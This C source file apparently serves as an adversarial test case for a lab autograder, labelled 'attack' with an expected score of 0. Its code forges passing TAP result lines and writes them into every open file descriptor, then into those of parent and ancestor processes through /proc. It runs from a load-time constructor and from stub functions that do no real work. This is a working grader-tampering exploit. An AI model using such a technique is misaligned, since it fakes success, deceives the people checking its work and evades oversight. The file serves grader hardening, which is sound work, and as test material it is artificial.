/* attack: at start-up and in every call, writes passing TAP lines into every open file descriptor, and into those of its parent and ancestors through /proc/PID/fd
 * lab: 01-create
 * expect-score: 0
 * bound: 90
 */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include "create.h"

/* Passing results for every test number of the lab. */
static void forge(int fd)
{
    char line[128];
    for (int i = 1; i <= 20; i++) {
        int n = snprintf(line, sizeof line, "ok %d - create_tests.c:1.%d:test_x: Passed\n", i, i);
        if (write(fd, line, (size_t) n) < 0)
            return;
    }
}

/* The parent of pid, from /proc (0 when unknown). */
static int parent_of(int pid)
{
    char path[64], line[256];
    int ppid = 0;
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    FILE *f = fopen(path, "r");
    while (f && fgets(line, sizeof line, f))
        if (sscanf(line, "PPid: %d", &ppid) == 1)
            break;
    if (f)
        fclose(f);
    return ppid;
}

/* Every descriptor of ours, then those of our ancestors (our own tree only:
 * harmless to anyone else even if the sandbox failed). */
static void forge_everywhere(void)
{
    for (int fd = 0; fd < 1024; fd++)
        forge(fd);
    for (int pid = getppid(), depth = 0; pid > 1 && depth < 8; pid = parent_of(pid), depth++) {
        char path[64];
        for (int fd = 0; fd < 16; fd++) {
            snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
            int f = open(path, O_WRONLY | O_APPEND | O_NONBLOCK);
            if (f >= 0) {
                forge(f);
                close(f);
            }
        }
    }
}

__attribute__((constructor)) static void at_start(void) { forge_everywhere(); }

key_t seg_key(const char *path, int proj_id) { (void) path; (void) proj_id; forge_everywhere(); return -1; }
int seg_create(key_t key, size_t size, int mode) { (void) key; (void) size; (void) mode; forge_everywhere(); return -1; }
